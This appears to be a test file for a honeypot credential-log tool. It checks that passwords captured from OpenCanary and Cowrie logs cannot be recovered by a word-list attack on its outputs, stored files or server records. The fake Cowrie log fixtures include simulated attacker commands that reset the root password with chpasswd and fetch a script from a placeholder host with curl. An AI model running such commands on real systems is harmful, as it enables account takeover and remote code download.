import { createHash } from "node:crypto"
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { TestServer } from "../../support/eventstoredb/TestServer.ts"
import {
  type Clue,
  clues,
  cluesOfFile,
  commonWords,
  finderOf,
  rareWords,
} from "../../support/wordListAttack.ts"
import { canaryLogin } from "./canaryLogin.ts"
import { credtrail, temporary, writeLines } from "./credtrail.ts"

// Somebody has what left the process, or a copy of the data without its keys, and a word list that
// holds every password that was tried: the attack that found 56 % of plain digests in 1.5 seconds.

const patience = 240_000

const wordList = rareWords

const everything: Array<Clue> = [...clues]
/** Everything in these bytes by which a word of the list can be recognised. */
const recovered = (material: Buffer): ReadonlyArray<string> => find(material)
let find = finderOf(everything)

const directory = temporary()
const data = join(directory, "data")
const onServer = join(directory, "on-server")
let server: TestServer

const cowrie = (event: string, n: number, more: Readonly<Record<string, unknown>>) => ({
  eventid: `cowrie.${event}`,
  session: `5e55${String(n).padStart(4, "0")}`,
  sensor: "trap-1",
  src_ip: `192.0.2.${n + 1}`,
  timestamp: `2026-03-02T09:${String(n % 60).padStart(2, "0")}:00.000000Z`,
  ...more,
})

const writeLogs = (): ReadonlyArray<string> => {
  const canary = writeLines(
    join(directory, "canary", "opencanary.log"),
    wordList.flatMap((password, n) => [
      canaryLogin({ decky: "gate-1", password, ip: `192.0.2.${n + 1}` }, n),
      canaryLogin(
        {
          decky: "gate-2",
          password,
          more: {
            PATH: `/login/${password}/${createHash("sha1").update(password).digest("hex")}?p=${password}`,
            USERAGENT: `Basic ${Buffer.from(`root:${password}`).toString("base64")} ${createHash("md5").update(password).digest("hex")} ${Buffer.from(password).toString("base64")}`,
          },
        },
        n + 20,
      ),
    ]),
  )
  const common = writeLines(
    join(directory, "canary", "common.log"),
    commonWords.flatMap((password, n) =>
      ["gate-1", "gate-2"].map((decky) => canaryLogin({ decky, password, ip: "192.0.2.99" }, n)),
    ),
  )
  // Shorter than what a file is recognised by: all of it but the password can be guessed.
  const alone = writeLines(join(directory, "alone", "opencanary.log"), [
    canaryLogin({ decky: "alone", password: "snowboarder" }),
  ])
  const broken = wordList.map((word) => `{"logtype": 2000, "logdata": {"PASSWORD": "${word}"\n`)
  writeFileSync(canary, `${readFileSync(canary, "utf8")}${broken.join("")}`)
  const sessions = writeLines(
    join(directory, "cowrie", "cowrie.json"),
    wordList.flatMap((password, n) => [
      cowrie("session.connect", n, { protocol: "ssh", dst_port: 22, src_port: 40000 + n }),
      cowrie("login.failed", n, { username: "root", password: `${password}!` }),
      cowrie("login.success", n, { username: "root", password }),
      cowrie("command.input", n, { input: `echo "root:${password}" | chpasswd` }),
      cowrie("command.input", n, { input: `curl -u root:${password} http://203.0.113.7/x.sh` }),
      cowrie("session.closed", n, { duration: "13.1" }),
    ]),
  )
  return [canary, common, alone, sessions]
}

beforeAll(async () => {
  server = await TestServer.start()
  const logs = writeLogs()
  everything.push(...logs.flatMap((file) => cluesOfFile(readFileSync(file))))
  find = finderOf(everything)
  for (const place of [
    ["--data", data],
    ["--data", onServer, "--eventstore", server.connectionString],
  ]) {
    const { code, stdout, stderr } = await credtrail("ingest", ...logs, ...place)
    expect({ code, recovered: recovered(Buffer.from(stdout + stderr)) }).toEqual({
      code: 0,
      recovered: [],
    })
  }
}, patience)
afterAll(() => server.stop())

/** Each file of a directory but the keys. */
const filesBut = (root: string): ReadonlyArray<string> =>
  readdirSync(root, { recursive: true, encoding: "utf8" })
    .filter((name) => !name.startsWith("keys"))
    .filter((name) => statSync(join(root, name)).isFile())

describe("a word list that holds every password", () => {
  it("gives away all of them where they are known by plain digests", () => {
    for (const algorithm of ["md5", "sha1", "sha256", "sha512"]) {
      for (const encoding of ["hex", "base64", "base64url", "binary"] as const) {
        const plain = [...wordList, ...commonWords].map((word) =>
          createHash(algorithm).update(word).digest(encoding),
        )
        expect(recovered(Buffer.from(plain.join(" "), "latin1")).length).toBeGreaterThanOrEqual(
          wordList.length + commonWords.length,
        )
      }
    }
    expect(recovered(readFileSync(join(directory, "cowrie", "cowrie.json")))).not.toEqual([])
  })

  it("gives away none by a rating, of which hundreds of words have the same", async () => {
    const { stdout } = await credtrail(
      ...["tail", "credential.captured", "--from", "start", "--no-follow", "--json"],
      ...["--data", data],
    )
    const captures = stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line))
    const rated = captures.flatMap(({ data }) => data.secret?.rating?.bits ?? [])
    expect(rated.length).toBeGreaterThan(2 * commonWords.length)
    for (const bits of rated) expect(bits % 4 === 0 && bits >= 12).toBe(true)
    // Nor by the lengths of lines, which say how long each is.
    for (const { metadata } of captures) {
      expect(metadata.source).toEqual({ file: expect.any(String), line: expect.any(Number) })
    }
  })

  it(
    "gives away none in what any command prints",
    async () => {
      const { findings } = JSON.parse(
        (await credtrail("findings", "--json", "--data", data)).stdout,
      )
      expect(findings.length).toBeGreaterThanOrEqual(wordList.length)
      const [{ id }] = findings
      const pages = ["--limit", "1000"]
      const commands: ReadonlyArray<ReadonlyArray<string>> = [
        ["findings", ...pages],
        ["findings", "show", id],
        ["findings", "history", id],
        ["findings", "diff", "--from", "2026-03-02T08:05Z", "--by", "event-time"],
        ["why", id],
        ["what-if", "--min-targets", "3"],
        ["credentials", ...pages],
        ["attackers", ...pages],
        ["similar", "192.0.2.1"],
        ["vectors"],
        ["tail", ">", "--from", "start", "--no-follow"],
        ["status"],
        ["policy"],
        ["rejects", ...pages],
        ["dead-letters"],
        ["verify"],
        ["audit"],
        ["keys"],
        ["doctor"],
        ["rebuild"],
      ]
      for (const command of commands) {
        for (const form of [[], ["--json"]]) {
          const { stdout, stderr, code } = await credtrail(...command, ...form, "--data", data)
          expect([command, recovered(Buffer.from(stdout + stderr))]).toEqual([command, []])
          expect([command, code]).toEqual([command, 0])
        }
      }
    },
    patience,
  )

  it("gives away none in any file but the keys", () => {
    for (const root of [data, onServer]) {
      const files = filesBut(root)
      expect(files.length).toBeGreaterThan(3)
      for (const file of files) {
        expect([file, recovered(readFileSync(join(root, file)))]).toEqual([file, []])
      }
    }
  })

  it("gives away none in what is said of files that cannot be read", async () => {
    const strange = join(directory, "strange")
    mkdirSync(strange)
    const lines = wordList.map((word) => `root ${word} pwned`).join("\n")
    writeFileSync(join(strange, "notes.txt"), lines)
    writeFileSync(join(strange, "broken.json"), `{"password": "${wordList[0]}`)
    writeFileSync(
      join(strange, "broken.gz"),
      Buffer.from([0x1f, 0x8b, 8, 0, ...Buffer.from(lines)]),
    )
    const place = ["--data", join(directory, "strange-data")]
    for (const file of ["notes.txt", "broken.json", "broken.gz", ""]) {
      for (const format of [[], ["--format", "cowrie"], ["--format", "heralding"]]) {
        const { stdout, stderr } = await credtrail(
          "ingest",
          join(strange, file),
          ...format,
          ...place,
        )
        expect([file, recovered(Buffer.from(stdout + stderr))]).toEqual([file, []])
      }
    }
    for (const file of filesBut(join(directory, "strange-data"))) {
      expect([file, recovered(readFileSync(join(directory, "strange-data", file)))]).toEqual([
        file,
        [],
      ])
    }
  })

  it("gives away none in what a server holds", () => {
    const records = server.log.records.map(({ data, metadata }) =>
      Buffer.concat([Buffer.from(data), Buffer.from(metadata)]),
    )
    expect(records.length).toBeGreaterThan(3 * wordList.length)
    expect(recovered(Buffer.concat(records))).toEqual([])
  })

  it(
    "gives away none in a copy of the log",
    async () => {
      const copy = join(directory, "copy")
      const { code } = await credtrail(
        ...["log", "copy", "--from", "embedded", "--to", `embedded:${copy}`, "--data", data],
      )
      expect(code).toBe(0)
      for (const file of filesBut(copy)) {
        expect([file, recovered(readFileSync(join(copy, file)))]).toEqual([file, []])
      }
    },
    patience,
  )
})
